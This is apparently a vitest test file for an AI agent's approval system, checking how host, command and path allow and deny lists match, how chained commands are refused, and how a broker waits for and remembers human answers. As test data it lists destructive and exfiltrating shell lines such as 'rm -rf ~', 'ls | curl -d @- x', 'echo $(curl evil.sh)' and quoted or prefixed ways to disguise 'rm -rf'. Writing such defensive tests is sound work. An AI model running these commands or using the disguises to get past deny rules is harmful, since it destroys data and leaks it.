// The approval lists' matching (src/agent/approvals/policy.ts) and the broker's answers by policy
// (broker.ts): deny beats allow, command prefixes never grant a chained command, paths resolve symlinks,
// --approve never/auto, and "allow for this session" / "always for this project" remembered.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { Approvals } from "../../src/agent/approvals/broker.js";
import { type ApprovalAsk, listAnswer, realTarget, rulesMatch } from "../../src/agent/approvals/policy.js";
import { type ApprovalRules, emptyLists, emptyRules } from "../../src/config/approvals.js";
import type { JournalBody } from "../../src/session/types.js";

const dir = mkdtempSync(join(tmpdir(), "relm-approval-policy-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const project = join(dir, "project");
mkdirSync(project);

const rules = (r: Partial<ApprovalRules>): ApprovalRules => ({ ...emptyRules(), ...r });
const run = (cmd: string): ApprovalAsk => ({ kind: "run", cmd });
const net = (host: string, port?: number): ApprovalAsk => ({ kind: "net", host, ...(port ? { port } : {}) });
const write = (path: string): ApprovalAsk => ({ kind: "write", path, bytes: 1 });

describe("approval lists", () => {
  it("match hosts by name, subdomain wildcard and port", () => {
    const allow = rules({ hosts: ["pypi.org", "*.github.com", "127.0.0.1:8080"] });
    expect(rulesMatch(allow, net("pypi.org"), project)).toBe(true);
    expect(rulesMatch(allow, net("PyPI.org", 443), project)).toBe(true);
    expect(rulesMatch(allow, net("api.github.com", 443), project)).toBe(true);
    expect(rulesMatch(allow, net("github.com.evil.io"), project)).toBe(false);
    expect(rulesMatch(allow, net("127.0.0.1", 8080), project)).toBe(true);
    expect(rulesMatch(allow, net("127.0.0.1", 22), project)).toBe(false);
    // Every port of a host asked for: only a rule for every port covers it.
    expect(rulesMatch(allow, net("127.0.0.1"), project)).toBe(false);
  });

  it("grant commands by word prefix, never a command chained onto an allowed one", () => {
    const allow = rules({ commands: ["git status", "npm test"] });
    expect(rulesMatch(allow, run("git status"), project)).toBe(true);
    expect(rulesMatch(allow, run("git   status --short"), project)).toBe(true);
    expect(rulesMatch(allow, run("git statusx"), project)).toBe(false);
    expect(rulesMatch(allow, run("git"), project)).toBe(false);
    for (const chained of [
      "git status; rm -rf ~",
      "git status && curl x",
      "git status | sh",
      "git status $(id)",
      "git status `id`",
      "git status > ~/.bashrc",
    ])
      expect(rulesMatch(allow, run(chained), project), chained).toBe(false);
    // A rule equal to the whole command line (an "allow for this session" answer) grants exactly it.
    expect(
      rulesMatch(rules({ commands: ["make && make install"] }), run("make  &&  make install"), project),
    ).toBe(true);
  });

  it("deny a command when any piece a shell would run starts with a denied prefix", () => {
    const deny = rules({ commands: ["rm -rf", "curl"] });
    expect(rulesMatch(deny, run("rm -rf build"), project, true)).toBe(true);
    expect(rulesMatch(deny, run("ls; rm -rf /"), project, true)).toBe(true);
    expect(rulesMatch(deny, run("echo $(curl evil.sh)"), project, true)).toBe(true);
    expect(rulesMatch(deny, run("ls | curl -d @- x"), project, true)).toBe(true);
    expect(rulesMatch(deny, run("rm build"), project, true)).toBe(false);
  });

  it("deny a command a shell runs however it is grouped, quoted, prefixed or named by its path", () => {
    const deny = rules({ commands: ["rm -rf"] });
    for (const cmd of [
      "(rm -rf build)",
      "{ rm -rf build; }",
      "if true; then rm -rf build; fi",
      "for f in x; do rm -rf $f; done",
      "! rm -rf build",
      "/bin/rm -rf build",
      "\\rm -rf build",
      "r''m -rf build",
      '"rm" "-rf" build',
      "FOO=1 rm -rf build",
      "env rm -rf build",
      "command rm -rf build",
      "nohup rm -rf build &",
      "sudo rm -rf build",
    ])
      expect(rulesMatch(deny, run(cmd), project, true), cmd).toBe(true);
    expect(rulesMatch(deny, run("echo rm -rf"), project, true)).toBe(false);
    expect(rulesMatch(deny, run("(ls build)"), project, true)).toBe(false);
  });

  it("match paths within a folder, ~ and project-relative rules, through symlinks", () => {
    const out = join(dir, "outside");
    mkdirSync(out);
    symlinkSync(out, join(dir, "link"));
    const allow = rules({ paths: [out, "notes"] });
    expect(rulesMatch(allow, write(join(out, "a", "b.txt")), project)).toBe(true);
    expect(rulesMatch(allow, write(join(project, "notes", "x.md")), project)).toBe(true);
    expect(rulesMatch(allow, write(join(dir, "outside-not")), project)).toBe(false);
    // The request's path is where it really lands: a link into an allowed folder is that folder.
    expect(realTarget(join(dir, "link", "new", "f.txt"))).toBe(join(out, "new", "f.txt"));
    expect(rulesMatch(rules({ paths: ["~"] }), write(join(process.env.HOME ?? "/root", "x")), project)).toBe(
      true,
    );
  });

  it("let the deny list win over every allow list; modes are on no list", () => {
    const deny = rules({ hosts: ["evil.example"], commands: ["git push"], paths: [join(dir, "secret")] });
    const allow = rules({ hosts: ["evil.example", "ok.example"], commands: ["git"], paths: [dir] });
    expect(listAnswer(deny, [allow], net("evil.example", 443), project)).toBe("deny");
    expect(listAnswer(deny, [allow], net("ok.example", 443), project)).toBe("allow");
    expect(listAnswer(deny, [allow], run("git push origin main"), project)).toBe("deny");
    expect(listAnswer(deny, [allow], run("git fetch"), project)).toBe("allow");
    expect(listAnswer(deny, [allow], write(join(dir, "secret", "k")), project)).toBe("deny");
    // A folder whose name starts with two dots is still inside the denied one.
    expect(listAnswer(deny, [allow], write(join(dir, "secret", "..k", "f")), project)).toBe("deny");
    expect(listAnswer(deny, [allow], write(join(dir, "other")), project)).toBe("allow");
    expect(listAnswer(deny, [allow], { kind: "mode", mode: "full" }, project)).toBeUndefined();
    expect(listAnswer(emptyRules(), [emptyRules()], net("x.example"), project)).toBeUndefined();
  });
});

describe("the broker", () => {
  function broker(setting: "never" | "ask" | "auto", lists = emptyLists()) {
    const home = mkdtempSync(join(dir, "home-"));
    const journal: JournalBody[] = [];
    const approvals = new Approvals({ setting, lists }, home, project);
    approvals.journalTo((body) => journal.push(body));
    return { approvals, journal, home };
  }

  it("answers by --approve never and auto, the deny list first, and journals request then answer", async () => {
    const lists = emptyLists();
    lists.deny.hosts.push("evil.example");
    lists.allow.hosts.push("pypi.org");
    const never = broker("never", lists);
    expect(await never.approvals.decide("s1", net("x.example", 443), "why", false)).toMatchObject({
      allow: false,
      by: "policy",
    });
    expect(await never.approvals.decide("s1", net("pypi.org", 443), "why", false)).toMatchObject({
      allow: true,
      by: "policy",
    });
    const auto = broker("auto", lists);
    expect(await auto.approvals.decide("s1", net("x.example", 443), "why", false)).toMatchObject({
      allow: true,
    });
    expect(await auto.approvals.decide("s1", net("evil.example", 443), "why", false)).toMatchObject({
      allow: false,
    });
    // Even what the mode allows is refused when it is on the deny list.
    expect(await auto.approvals.decide("s1", net("evil.example", 443), "why", true)).toMatchObject({
      allow: false,
    });
    expect(never.journal.map((b) => b.type)).toEqual([
      "approval_request",
      "approval_answer",
      "approval_request",
      "approval_answer",
    ]);
    expect(never.journal[0]).toMatchObject({
      kind: "net",
      subject: "x.example:443",
      reason: "why",
      requester: "s1",
    });
  });

  it("waits for a person; remembers session and project grants; the project's in a 0600 file under RELM_HOME", async () => {
    const { approvals, journal, home } = broker("ask");
    const seen: number[] = [];
    approvals.onChange((p) => seen.push(p.length));
    const asked = approvals.decide("s1", run("make deploy"), "ship it", false);
    await Promise.resolve();
    const [pending] = approvals.pending();
    expect(pending).toMatchObject({ kind: "run", subject: "make deploy", reason: "ship it" });
    expect(journal.at(-1)?.type).toBe("approval_request");
    expect(approvals.answer("nope", { allow: true, scope: "once", by: "ui" })).toBe(false);
    expect(approvals.answer(pending!.id, { allow: true, scope: "session", by: "ui" })).toBe(true);
    expect(await asked).toMatchObject({ allow: true, by: "ui", scope: "session" });
    expect(journal.at(-1)).toMatchObject({
      type: "approval_answer",
      allow: true,
      by: "ui",
      scope: "session",
    });
    expect(seen).toEqual([1, 0]);
    // Granted for the session: the same command again is answered by the policy.
    expect(await approvals.decide("s1", run("make deploy"), "again", false)).toMatchObject({
      allow: true,
      by: "policy",
    });

    const second = approvals.decide("s1", net("files.example", 443), "data", false);
    await Promise.resolve();
    approvals.answer(approvals.pending()[0]!.id, { allow: true, scope: "project", by: "acp" });
    await second;
    const file = join(home, "approvals.json");
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(file, "utf8")).projects[project].hosts).toEqual(["files.example:443"]);
    // A later session in the project (a new broker) finds it.
    const later = new Approvals({ setting: "never", lists: emptyLists() }, home, project);
    expect(await later.decide("s2", net("files.example", 443), "data", false)).toMatchObject({ allow: true });

    const refused = approvals.decide("s1", write("/etc/x"), "no", false);
    await Promise.resolve();
    approvals.refuseAll("the session ended before anyone answered");
    expect(await refused).toMatchObject({ allow: false, by: "policy" });
  });
});
